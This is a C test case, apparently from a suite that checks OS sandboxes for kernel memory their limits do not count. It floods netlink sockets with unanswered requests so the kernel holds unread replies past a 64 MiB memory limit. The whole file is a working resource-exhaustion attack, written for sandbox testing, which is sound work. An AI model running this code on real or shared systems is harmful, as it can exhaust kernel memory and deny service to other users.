// Takes memory of the kernel's alone: answers of netlink that nobody reads, up to megabytes for each socket.
// class: OS sandboxes: kernel memory that no limit counts
// plain: say
// flags: --memory 64MiB
#include "attack.h"

#include <linux/netlink.h>
#include <sys/socket.h>

enum { kSockets = 900, kAsked = 500, kUnknown = 9999, kMost = 160 };

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  struct nlmsghdr unknown = {
      .nlmsg_len = sizeof unknown, .nlmsg_type = kUnknown, .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK};
  long answers = 0;
  // 768 bytes for an answer, at the least.
  for (int i = 0; i < kSockets && answers * 768 >> 20 < kMost; ++i) {
    const int much = INT_MAX, asked = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
    if (asked < 0) {
      refused("netlink");
      break;
    }
    setsockopt(asked, SOL_SOCKET, SO_RCVBUF, &much, sizeof much);
    for (int k = 0; k < kAsked && send(asked, &unknown, sizeof unknown, MSG_DONTWAIT) > 0; ++k) ++answers;
    nap(1);
  }
  nap(inside() ? 20000 : 0);  // as long as somebody who looks from time to time may need on a busy machine
  if (answers * 768 >> 20 >= kMost) effect("%ld answers that nobody reads", answers);
  return 0;
}
